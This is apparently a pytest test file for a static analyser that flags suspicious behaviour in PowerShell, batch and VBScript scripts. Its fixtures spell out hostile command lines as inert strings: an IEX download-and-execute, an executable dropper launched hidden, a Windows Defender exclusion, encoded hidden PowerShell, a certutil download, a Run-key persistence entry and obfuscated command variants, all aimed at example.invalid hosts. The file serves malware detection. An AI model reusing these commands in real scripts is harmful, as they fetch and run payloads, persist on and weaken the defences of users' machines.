"""Inert scripts, written for these tests: hosts below example.invalid, nothing that would run."""

import random
from base64 import b64encode
from time import perf_counter

import pytest

from darnel.features.facts import SourceFacts
from darnel.features.languages.registry import language_by_name, language_for
from darnel.features.languages.windows_scripts import MAX_LINES, analyse
from darnel.features.limits import DEFAULT_LIMITS, Limits

FETCH = "IEX (New-Object Net.WebClient).DownloadString('https://a.example.invalid/x')"
ENCODED = b64encode(FETCH.encode("utf-16-le")).decode()


def seen(facts: SourceFacts) -> set[tuple[int, str]]:
    return {(o.line, o.behaviour) for o in facts.observations}


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("a.ps1", "powershell"),
        ("b/C.PSM1", "powershell"),
        ("x.bat", "batch"),
        ("x.cmd", "batch"),
        ("x.vbs", "vbscript"),
    ],
)
def test_registered(path: str, name: str) -> None:
    found = language_for(path, b"")
    assert found
    assert found.name == name
    assert language_by_name(name)


def test_powershell_dropper() -> None:
    facts = analyse(
        b"# IEX nothing\n"
        b"(New-Object Net.WebClient).DownloadFile('https://a.example.invalid/x.exe', \"$env:TEMP\\x.exe\")\n"
        b'Start-Process "$env:TEMP\\x.exe" -WindowStyle Hidden\n'
        b"Add-MpPreference -ExclusionPath C:\\\n"
    )
    assert seen(facts) >= {
        (2, "net.fetch"), (2, "file.temporary"), (3, "spawn.process"), (3, "spawn.hidden"), (4, "guard.sandbox"),
    }  # fmt: skip
    assert not any(line == 1 for line, _ in seen(facts))
    assert "https://a.example.invalid/x.exe" in {literal.value for literal in facts.literals}
    assert all(o.top for o in facts.observations)


def test_words_broken_up_count_as_hidden() -> None:
    (found,) = [o for o in analyse(b"I`E`X $code\n").observations if o.behaviour == "code.evaluate"]
    assert found.hidden
    joined = analyse(b"&('Start' + '-Process') notepad\n")
    assert ("spawn.process", True) in {(o.behaviour, o.hidden) for o in joined.observations}


@pytest.mark.parametrize("flag", ["-enc", "-EncodedCommand", "-e", "/ec"])
def test_encoded_command_is_read(flag: str) -> None:
    facts = analyse(f"@echo off\r\npowershell -w hidden {flag} {ENCODED}\r\n".encode(), language="batch")
    assert {(2, "hide.encoded"), (2, "spawn.piped"), (2, "spawn.hidden")} <= seen(facts)
    assert all(o.hidden for o in facts.observations if o.behaviour == "spawn.piped")
    assert "https://a.example.invalid/x" in {literal.value for literal in facts.literals}


def test_batch() -> None:
    facts = analyse(
        b"@echo off\r\nrem start a.exe\r\n"
        b"certutil -urlcache -f https://a.example.invalid/x x.exe ^\r\n && start x.exe\r\n"
        b"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d x\r\n"
        b"c^e^r^tutil -decode a b\r\n",
        language="batch",
    )
    assert seen(facts) >= {(3, "spawn.download"), (3, "spawn.process"), (5, "persist.startup"), (6, "decode.text")}
    assert [o.hidden for o in facts.observations if o.behaviour == "decode.text"] == [True]


def test_vbscript() -> None:
    facts = analyse(
        b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c ver", 0\r\n',
        language="vbscript",
    )
    assert seen(facts) >= {(1, "hide.swallow"), (2, "spawn.shell"), (3, "spawn.process"), (3, "spawn.hidden")}


def test_a_documentation_makefile_does_nothing_of_note() -> None:
    text = (
        b'@ECHO OFF\r\npushd %~dp0\r\nREM Command file\r\nif "%SPHINXBUILD%" == "" (\r\n'
        b"\tset SPHINXBUILD=sphinx-build\r\n)\r\n%SPHINXBUILD% >NUL 2>NUL\r\n"
    )
    assert not analyse(text, language="batch").observations


def test_utf16_is_read() -> None:
    assert seen(analyse(("\ufeff" + FETCH).encode("utf-16-le"))) >= {(1, "spawn.piped")}


@pytest.mark.parametrize("language", ["powershell", "batch", "vbscript"])
def test_hostile_content_is_bounded(language: str) -> None:
    noise = random.Random(5)
    started = perf_counter()
    for data in (
        noise.randbytes(200_000),
        b"%a:~1,1%" * 50_000,
        b"'+'" * 100_000,
        b'"' * 200_000,
        b"start " * 50_000,
        b"x`\n" * 60_000,
        b"set a=b\n" * (MAX_LINES + 10),
    ):
        facts = analyse(data, DEFAULT_LIMITS, language)
        assert len(facts.observations) <= DEFAULT_LIMITS.observations + 200
    assert perf_counter() - started < 20
    assert set(facts.cut) <= {"nodes", "parse-seconds"}  # which comes first depends on the machine
    assert facts.cut
    assert "parse-bytes" in analyse(b"x" * 100, Limits(parse_bytes=10), language).cut
